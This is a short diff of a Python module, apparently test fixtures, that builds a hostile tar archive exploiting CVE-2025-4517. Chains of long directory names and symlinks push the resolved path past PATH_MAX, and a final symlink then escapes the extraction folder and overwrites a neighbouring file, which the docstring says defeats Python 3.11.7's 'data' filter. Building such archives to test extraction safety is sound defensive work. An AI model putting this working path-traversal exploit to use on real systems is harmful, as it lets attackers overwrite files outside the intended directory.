@@ -42,15 +42,18 @@ def replaced(name: str, **changes: object) -> list[Entry]:
 
 
 def path_max() -> list[Entry]:
-    """The way out of CVE-2025-4517: links whose resolved path grows past PATH_MAX, then one that steps out."""
+    """The way out of CVE-2025-4517: links whose resolved path grows past PATH_MAX, then one that steps out.
+
+    With extractall(filter="data") of Python 3.11.7 it overwrites the file beside the folder.
+    """
     entries, path, step = [], FOLDER, "d" * 247
     for letter in "abcdefghijklmnop":
         entries.append(Entry(f"{path}/{step}", type=tarfile.DIRTYPE))
         entries.append(Entry(f"{path}/{letter}", type=tarfile.SYMTYPE, link=step))
         path = f"{path}/{step}"
-    short = f"{FOLDER}/" + "/".join("abcdefghijklmnop")
-    entries.append(Entry(f"{short}/{'l' * 254}", type=tarfile.SYMTYPE, link="../" * 16))
-    entries.append(Entry(f"{FOLDER}/escape", type=tarfile.SYMTYPE, link=f"{short}/{'l' * 254}/../../precious"))
+    short = "/".join("abcdefghijklmnop") + "/" + "l" * 254
+    entries.append(Entry(f"{FOLDER}/{short}", type=tarfile.SYMTYPE, link="../" * 16))
+    entries.append(Entry(f"{FOLDER}/escape", type=tarfile.SYMTYPE, link=f"{short}/../../precious"))
     return [*entries, Entry(f"{FOLDER}/escape", b"gone"), *honest()]
 
 
